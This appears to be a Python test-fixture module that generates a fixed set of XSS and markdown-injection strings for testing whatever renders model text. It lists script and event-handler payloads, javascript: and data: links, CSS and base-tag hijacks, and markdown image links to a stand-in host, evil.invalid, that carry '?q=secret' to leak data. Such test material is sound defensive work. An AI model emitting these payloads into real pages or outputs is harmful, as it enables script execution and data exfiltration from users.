"""Texts that try to run scripts, make requests, or forge the page, for whatever shows text of a model."""

from __future__ import annotations

import random
from typing import Final

ATTACKS: Final = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.invalid/leak?q=secret">',
    "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<a href=javascript:alert(1)>a</a>",
    "<style>@import 'https://evil.invalid/x.css'</style>",
    '<link rel=stylesheet href="https://evil.invalid/x.css">',
    '<meta http-equiv=refresh content="0;url=https://evil.invalid">',
    '<base href="https://evil.invalid/">',
    "<form action=https://evil.invalid><button>Go</button></form>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "![leak](https://evil.invalid/leak.png?q=secret)",
    "![a][b]\n\n[b]: https://evil.invalid/leak.png",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](\x01javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "[click](//evil.invalid)",
    "[click](https://a.example@evil.invalid/ 'onmouseover=alert(1)')",
    '[click](https://evil.invalid/"onmouseover="alert(1))',
    "<javascript:alert(1)>",
    "<https://evil.invalid/`onerror=alert(1)`>",
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    "``` <img src=x onerror=alert(1)>\nx\n```",
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#106;avascript:alert(1)",
    "\u202ehttps://evil.invalid/\u202c \ufeff\u2028\u2029 \x00<script>",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 1 %>",
    "<template><script>alert(1)</script></template><noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    '"><script>alert(1)</script>',
    "'onfocus=alert(1) autofocus='",
    "]]><!--<script>-->",
    "__proto__ constructor toString [__proto__](https://a.example)",
)
WRAPPERS: Final = (
    "{}",
    "**{}**",
    "# {}",
    "- {}",
    "> {}",
    "`{}`",
    "[{}](https://a.example)",
    "1. {}\n   {}",
    "| a |\n|-|\n|{}|",
)


def hostile_texts(number: int) -> list[str]:
    """Attacks, alone, wrapped in Markdown, joined, and cut; always the same ones."""
    chance = random.Random(16)
    texts = [wrapper.replace("{}", attack) for attack in ATTACKS for wrapper in WRAPPERS]
    while len(texts) < number:
        joined = chance.choice(("", " ", "\n", "\n\n")).join(chance.choices(ATTACKS, k=chance.randint(1, 4)))
        start = chance.randrange(max(1, len(joined) // 2))
        texts.append(chance.choice(WRAPPERS).replace("{}", joined[start:]))
    return texts
